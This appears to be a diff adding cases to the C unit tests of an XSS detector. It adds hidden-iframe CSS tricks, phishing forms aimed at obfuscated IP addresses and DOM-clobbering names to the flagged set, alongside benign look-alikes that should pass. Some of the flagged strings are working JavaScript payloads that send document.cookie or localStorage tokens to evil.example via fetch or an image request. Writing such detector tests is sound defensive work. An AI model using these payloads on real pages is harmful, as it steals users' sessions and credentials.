@@ -64,6 +64,27 @@ static void test_xss_frame_hidden_by_function(void **st)
 		"style=\"width:calc(0px)\"></iframe>",
 		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
 		"style=\"visibility:collapse\"></iframe>",
+		/* rev8 E9: opposite sides of inset() meeting, the scale
+		 * property, a flat matrix(), edge-on rotateX/Y, an empty
+		 * polygon(), an exponent's tiny scale, zoom in percent */
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:inset(0 100% 0 0)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:inset(60% 0 40%)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"scale:0\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:matrix(0,0,0,0,0,0)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:rotateY(90deg)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:rotatex( 270deg )\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:polygon(0 0,0 0,0 0)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:scale(1e-3)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"zoom:1%\"></iframe>",
 	};
 	static const char *const told[] = {
 		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
@@ -78,6 +99,24 @@ static void test_xss_frame_hidden_by_function(void **st)
 		"style=\"filter:opacity(0.9);zoom:1.5\"></iframe>",
 		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
 		"style=\"width:calc(100% - 20px);clip-path:circle(50%)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:inset(0 10% 0 10%)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"scale:0.9\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:matrix(1,0,0,1,0,0)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:rotate(90deg)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:rotateY(45deg)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:polygon(0 0,100% 0,100% 100%,0 100%)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"clip-path:polygon(0 0,0 0,0 0,100% 100%)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"transform:scale(1e0)\"></iframe>",
+		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
+		"style=\"zoom:90%\"></iframe>",
 	};
 
 	(void)st;
@@ -101,6 +140,14 @@ static void test_xss_phishing_form(void **st)
 		"<button form=f formaction=//3405803785/x>go</button><form id=f><input type='password' name=p></form>",
 		"<form action=\"/\\[2001:db8::1]/\"><input type=password></form>",
 		"<form action=\"https://user:pw@evil.example/\"><input type=password></form>",
+		/* rev8 E14: an IPv4 part in hex or octal, fewer parts, a
+		 * wildcard DNS name that spells an IP */
+		"<form action=\"http://0xCB.0.113.9/x\"><input type=password name=p></form>",
+		"<form action=\"http://0313.0.113.9/x\"><input type=password name=p></form>",
+		"<form action=\"http://203.0.29449/x\"><input type=password name=p></form>",
+		"<form action=\"http://cb007109.nip.io/x\"><input type=password name=p></form>",
+		"<form action=\"http://203-0-113-9.sslip.io/x\"><input type=password name=p></form>",
+		"<form action=\"//172.32.0.1/x\"><input type=password name=p></form>",
 	};
 	static const char *const told[] = {
 		"<form method=\"post\" action=\"/login\"><input type=\"text\" name=\"username\">"
@@ -116,6 +163,16 @@ static void test_xss_phishing_form(void **st)
 		"<form action=\"https://accounts.example.com/login\" method=\"post\"><input name=\"user\">"
 		"<input type=\"password\" name=\"pass\"></form>",
 		"<form action=\"http://10.0.0.5/search\"><input name=\"q\"></form>",
+		/* rev8 F3: a router's or NAS's own login page (a private,
+		 * loopback or link-local address) pasted into a ticket */
+		"<form action=\"http://192.168.1.1/login.cgi\" method=\"post\">User <input name=\"user\"> "
+		"Password <input type=\"password\" name=\"pass\"></form>",
+		"<form action=\"http://10.0.0.138/goform/login\" method=\"post\"><input type=\"password\" "
+		"name=\"pwd\"></form>",
+		"<form action=\"https://172.16.4.2:5001/webman/login.cgi\"><input type=\"password\"></form>",
+		"<form action=\"http://127.0.0.1:8080/j_security_check\"><input type=\"password\"></form>",
+		"<form action=\"http://169.254.1.1/\"><input type=\"password\"></form>",
+		"<form action=\"//3232235777/login\"><input type=\"password\"></form>",
 	};
 
 	(void)st;
@@ -138,6 +195,13 @@ static void test_xss_dom_clobbering(void **st)
 		"<img src=x name=currentScript>",
 		"<iframe name=defaultView src=\"https://example.com\"></iframe>",
 		"<form><input name=\"ownerDocument\"></form>",
+		/* rev8 E13: Document's own properties shadowed by an img's or
+		 * form's name ([LegacyOverrideBuiltIns]) */
+		"<img name=cookie>",
+		"<img name=body>",
+		"<form name=domain></form>",
+		"<embed name=\"cookie\">",
+		"<img src=x name=referrer>",
 	};
 	static const char *const told[] = {
 		"<form id=\"checkout\"><input name=\"address\"><input name=\"city\"></form>",
@@ -150,6 +214,9 @@ static void test_xss_dom_clobbering(void **st)
 		"<a id=defaultView href=\"#top\">Top</a>",
 		"<input type=\"text\" name=\"nodeName\" placeholder=\"worker-1\">",
 		"<label for=\"localName\">Local name</label><input id=\"localName\" name=\"localName\">",
+		"<img id=\"body\" src=\"a.png\">",
+		"<a name=\"cookie\"></a><h2>Cookie policy</h2>",
+		"<input type=\"checkbox\" name=\"cookie\" id=\"cookie\">",
 	};
 
 	(void)st;
@@ -197,10 +264,22 @@ static void test_xss_named_global_member(void **st)
 		"';top['al'+'ert'](1);//",
 		"';self['x']=1;alert(1);//",
 		"';window['constructor']['constructor']('alert(1)')();//",
+		/* rev8 L5: a bracketed walk to the cookie, storage or
+		 * navigation is the exfiltration half of an XSS */
+		"new Image().src='//evil.example/?'+window['document']['cookie']",
+		"fetch('//evil.example/?c='+self['document']['cookie'])",
+		"fetch('//e/?'+window['localStorage']['token'])",
+		"location='//evil/?'+window['document']['cookie']",
+		"';x=window['document'];//",
+		"';x=self['sessionStorage'].getItem('t');//",
+		"';window['opener'].location='//evil';//",
+		"';y=top['name'];//",
+		"';window['config']['x']=1;alert(1);//",
 	};
 	static const char *const told[] = {
 		"window['dataLayer'] = window['dataLayer'] || [];",
 		"top['menu'] = new Menu(); self['config'] = {debug:false};",
+		"window['__APP_STATE__'] = {user: null};",
 	};
 
 	(void)st;
